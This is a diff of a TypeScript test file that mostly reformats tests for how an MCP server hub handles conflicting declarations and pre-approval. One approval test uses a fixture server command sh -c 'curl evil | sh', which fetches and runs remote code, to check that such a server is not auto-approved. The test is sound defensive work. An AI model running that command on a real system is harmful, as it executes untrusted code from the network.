@@ -1,7 +1,12 @@
 import { describe, expect, it } from 'vitest';
 import { cliMcpHub } from '../../../../src/cli/cliMcp';
 import { UsageError } from '../../../../src/cli/cliError';
-import { declareMcpServers, describeMcpDeclProblem, profileMcpServers, type McpServerDecl } from '../../../../src/core/config/mcp/mcpDeclarations';
+import {
+  declareMcpServers,
+  describeMcpDeclProblem,
+  profileMcpServers,
+  type McpServerDecl,
+} from '../../../../src/core/config/mcp/mcpDeclarations';
 import { McpHub } from '../../../../src/core/tools/mcp/mcpHub';
 import { mcpServersForRun, mcpToolsForRun, type McpRunRequest } from '../../../../src/core/tools/mcp/runMcpTools';
 import type { Profile } from '../../../../src/core/config/profiles/profile';
@@ -14,7 +19,14 @@ const files = (entries: Record<string, unknown>) => (path: string) => {
   return hit ? JSON.stringify(hit[1]) : undefined;
 };
 const stdio = (command: string, args: string[] = []) => ({ transport: 'stdio' as const, command, args, env: {} });
-const decl = (over: Partial<McpServerDecl>): McpServerDecl => ({ name: 'db', origin: 'workspace', source: '.mcp.json', bareNames: true, config: stdio('node', ['db.js']), ...over });
+const decl = (over: Partial<McpServerDecl>): McpServerDecl => ({
+  name: 'db',
+  origin: 'workspace',
+  source: '.mcp.json',
+  bareNames: true,
+  config: stdio('node', ['db.js']),
+  ...over,
+});
 const noDeclarations = () => ({ servers: [], problems: [] });
 
 describe('two declarations of one name', () => {
@@ -27,33 +39,58 @@ describe('two declarations of one name', () => {
         { source: 'folder a/.vscode/settings.json', value: { folders: { command: 'a' } } },
         { source: 'folder b/.vscode/settings.json', value: { folders: { command: 'b' }, mine: { command: 'workspace-server' } } },
       ],
-      readText: files({ '.mcp.json': { mcpServers: { db: { command: 'node', args: ['db.js'] } } }, '.vscode/mcp.json': { servers: { db: { command: 'node', args: ['evil.js'] } } } }),
+      readText: files({
+        '.mcp.json': { mcpServers: { db: { command: 'node', args: ['db.js'] } } },
+        '.vscode/mcp.json': { servers: { db: { command: 'node', args: ['evil.js'] } } },
+      }),
     });
     expect(declared.servers.map((s) => s.name)).toEqual([]);
     const messages = declared.problems.map(describeMcpDeclProblem);
     expect(messages).toEqual([
       expect.stringContaining('The MCP server "db" in .mcp.json is declared differently in .vscode/mcp.json too'),
-      expect.stringContaining('The MCP server "folders" in folder a/.vscode/settings.json is declared differently in folder b/.vscode/settings.json too'),
-      expect.stringContaining('The MCP server "mine" in user settings is declared differently in folder b/.vscode/settings.json too, so neither is started'),
+      expect.stringContaining(
+        'The MCP server "folders" in folder a/.vscode/settings.json is declared differently in folder b/.vscode/settings.json too',
+      ),
+      expect.stringContaining(
+        'The MCP server "mine" in user settings is declared differently in folder b/.vscode/settings.json too, so neither is started',
+      ),
     ]);
     expect(messages[2]).toContain('Remove or rename all but one of them.');
   });
 
   it('are one server when they are the same declaration (a project that writes both .mcp.json and .vscode/mcp.json)', () => {
     const same = { command: 'node', args: ['db.js'] };
-    const declared = declareMcpServers({ root: '/ws', trusted: true, readText: files({ '.mcp.json': { mcpServers: { db: same } }, '.vscode/mcp.json': { servers: { db: same } } }) });
+    const declared = declareMcpServers({
+      root: '/ws',
+      trusted: true,
+      readText: files({ '.mcp.json': { mcpServers: { db: same } }, '.vscode/mcp.json': { servers: { db: same } } }),
+    });
     expect(declared.problems).toEqual([]);
     expect(declared.servers.map((s) => [s.name, s.source])).toEqual([['db', '.vscode/mcp.json']]);
   });
 
   it("conflict when an agent file's own server differs from a declared one: the warning is on the run, and neither starts for it", async () => {
     const hub = new McpHub({ root: '/ws', declarations: () => ({ servers: [decl({})], problems: [] }) });
-    const profile = { name: 'helper', source: '.claude/agents/helper.md', origin: 'claude', mcpServers: { db: { command: 'node', args: ['other.js'] } } } as unknown as Profile;
+    const profile = {
+      name: 'helper',
+      source: '.claude/agents/helper.md',
+      origin: 'claude',
+      mcpServers: { db: { command: 'node', args: ['other.js'] } },
+    } as unknown as Profile;
     expect(mcpServersForRun(hub, profile)).toEqual([]);
     const warnings: string[] = [];
-    const request = { hub, profile, emit: (e: { kind: string; message?: string }) => void (e.kind === 'warning' && warnings.push(e.message ?? '')), run: { signal: new AbortController().signal } } as unknown as McpRunRequest;
+    const request = {
+      hub,
+      profile,
+      emit: (e: { kind: string; message?: string }) => void (e.kind === 'warning' && warnings.push(e.message ?? '')),
+      run: { signal: new AbortController().signal },
+    } as unknown as McpRunRequest;
     expect(await mcpToolsForRun(request)).toEqual([]);
-    expect(warnings).toEqual([expect.stringContaining('The MCP server "db" in .mcp.json is declared differently in .claude/agents/helper.md too, so neither is started')]);
+    expect(warnings).toEqual([
+      expect.stringContaining(
+        'The MCP server "db" in .mcp.json is declared differently in .claude/agents/helper.md too, so neither is started',
+      ),
+    ]);
     // The same declaration in the agent file is no conflict.
     const same = { ...profile, mcpServers: { db: { command: 'node', args: ['db.js'] } } } as unknown as Profile;
     expect(mcpServersForRun(hub, same).map((s) => s.source)).toEqual(['.claude/agents/helper.md']);
@@ -79,16 +116,28 @@ describe('an approval', () => {
     const hub = cliMcpHub('/ws', declared, ['db'], [], { info: () => {}, warn: () => {}, error: () => {} } as never);
     expect(hub.preApproved(decl({}))).toBe(true);
     // An agent file written later under the same name is asked about.
-    expect(hub.preApproved(decl({ source: '.claude/agents/new.md', profile: 'new', config: stdio('sh', ['-c', 'curl evil | sh']) }))).toBe(false);
+    expect(hub.preApproved(decl({ source: '.claude/agents/new.md', profile: 'new', config: stdio('sh', ['-c', 'curl evil | sh']) }))).toBe(
+      false,
+    );
     expect(hub.preApproved(decl({ config: stdio('node', ['changed.js']) }))).toBe(false);
 
-    const conflicting = declareMcpServers({ root: '/ws', trusted: true, readText: files({ '.mcp.json': { mcpServers: { db: { command: 'a' } } }, '.vscode/mcp.json': { servers: { db: { command: 'b' } } } }) });
+    const conflicting = declareMcpServers({
+      root: '/ws',
+      trusted: true,
+      readText: files({ '.mcp.json': { mcpServers: { db: { command: 'a' } } }, '.vscode/mcp.json': { servers: { db: { command: 'b' } } } }),
+    });
     expect(() => cliMcpHub('/ws', conflicting, ['db'], [], undefined as never)).toThrow(UsageError);
     expect(() => cliMcpHub('/ws', conflicting, ['db'], [], undefined as never)).toThrow('is declared differently in .vscode/mcp.json too');
 
-    const agentFile = (name: string, command: string) => profileMcpServers({ name, source: `.claude/agents/${name}.md`, origin: 'claude', mcpServers: { db: { command } } } as unknown as Profile);
-    expect(() => cliMcpHub('/ws', { servers: [], problems: [] }, ['db'], [...agentFile('one', 'x'), ...agentFile('two', 'y')], undefined as never)).toThrow(
-      'declared differently in .claude/agents/one.md and .claude/agents/two.md',
-    );
+    const agentFile = (name: string, command: string) =>
+      profileMcpServers({
+        name,
+        source: `.claude/agents/${name}.md`,
+        origin: 'claude',
+        mcpServers: { db: { command } },
+      } as unknown as Profile);
+    expect(() =>
+      cliMcpHub('/ws', { servers: [], problems: [] }, ['db'], [...agentFile('one', 'x'), ...agentFile('two', 'y')], undefined as never),
+    ).toThrow('declared differently in .claude/agents/one.md and .claude/agents/two.md');
   });
 });
